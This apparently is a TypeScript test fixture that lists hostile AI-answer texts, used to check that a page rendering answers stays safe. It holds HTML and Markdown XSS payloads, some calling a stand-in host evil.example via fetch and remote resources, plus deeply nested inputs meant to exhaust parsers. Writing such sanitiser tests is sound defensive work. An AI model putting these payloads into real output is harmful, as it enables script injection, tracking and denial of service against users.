/**
 * What an answer must never do to the page that shows it: by name, the texts that try. Each ends
 * with the word "finis".
 */

const SCRIPT = 'window.caught=1;fetch("https://evil.example/s")';
const SITE = 'https://evil.example';

const MARKUP = [
  `<script>${SCRIPT}</script>`,
  `<script src="${SITE}/s.js"></script>`,
  `<img src="${SITE}/i.png" onerror='${SCRIPT}'>`,
  `<img src=x onerror="window.caught=1">`,
  `<svg onload="window.caught=1"><image href="${SITE}/v.png"/></svg>`,
  `<math><mtext><style><img src=x onerror="window.caught=1"></style></mtext></math>`,
  `<iframe src="${SITE}"></iframe><iframe srcdoc="<script>parent.caught=1</script>"></iframe>`,
  `<object data="${SITE}/o"></object><embed src="${SITE}/e"><audio src="${SITE}/a" autoplay>`,
  `<video poster="${SITE}/p.png" src="${SITE}/v.mp4" autoplay></video>`,
  `<style>@import "${SITE}/c.css"; body{background:url(${SITE}/b.png);display:none}</style>`,
  `<link rel="stylesheet" href="${SITE}/c.css"><link rel="prefetch" href="${SITE}/f">`,
  `<meta http-equiv="refresh" content="0;url=${SITE}"><base href="${SITE}/">`,
  `<form action="${SITE}"><input autofocus onfocus="window.caught=1"></form>`,
  `<details open ontoggle="window.caught=1"><body onload="window.caught=1">`,
  `<p style="background:url(${SITE}/y.png)">styled</p>`,
  '&lt;script&gt;window.caught=1&lt;/script&gt;',
];

const MARKDOWN = [
  `![a](${SITE}/i.png) ![b](${SITE}/i.svg "t") ![c][r] [![d](${SITE}/n.png)](${SITE})`,
  `[r]: ${SITE}/r.png`,
  '![e](data:image/svg+xml,<svg/onload=window.caught=1>) ![f](//evil.example/p.png)',
  '[g](javascript:window.caught=1) [h](JAVASCRIPT:window.caught=1) [i](java%73cript:window.caught=1)',
  '[j](&#106;avascript:window.caught=1) [k](\u0001javascript:window.caught=1) <javascript:window.caught=1>',
  '[l](data:text/html,<script>opener.caught=1</script>) [m](vbscript:x) [n](blob:x)',
  `[o](${SITE}/"onmouseover="window.caught=1) [p](${SITE} '"onclick="window.caught=1')`,
  '[q](/sign-out) [s](//evil.example) [t](#x) [u](?a=b) [v](https://good.example@evil.example/)',
  '```js"><img src=x onerror=window.caught=1>\nlet a;\n```',
  `|<img src="${SITE}/t.png">|\n|-|\n|![w](${SITE}/w.png)|`,
  `$\\href{javascript:window.caught=1}{x}$ \`\`\`mermaid\nclick A "javascript:window.caught=1"\n\`\`\``,
];

function repeat(mark: string, length: number): string {
  return mark.repeat(Math.ceil(length / mark.length));
}

/** Deep or long enough to stop a careless reader of Markdown. */
const ENDLESS: Record<string, string> = {
  'quotes 10,000 deep': '> '.repeat(10_000),
  'lists 10,000 deep': '- '.repeat(10_000),
  'emphasis 10,000 deep': '**a *b '.repeat(5_000),
  'links 10,000 deep': `${'['.repeat(10_000)}a${'](mailto:a)'.repeat(10_000)}`,
  'nothing but [': repeat('[', 200_000),
  'links that never end': repeat('[a](', 200_000),
  'thousands of emphases': repeat('*a', 200_000),
  'a line of |': repeat('|', 200_000),
  'backticks that never pair': repeat('\\``', 200_000),
  'a table of a thousand columns': `${'|a'.repeat(1000)}|\n${'|-'.repeat(1000)}|\n${'|\n'.repeat(3000)}`,
  'thousands of code blocks': '```\n```\n'.repeat(5_000),
  'one word of 100,000 letters': repeat('слово', 100_000),
};

export const HOSTILE_ANSWERS: ReadonlyMap<string, string> = new Map(
  [
    ...MARKUP.map((text): [string, string] => [text.slice(0, 60), text]),
    ...MARKDOWN.map((text): [string, string] => [text.slice(0, 60), text]),
    ...Object.entries(ENDLESS),
  ].map(([name, text]): [string, string] => [name, `${text}\n\nfinis`]),
);
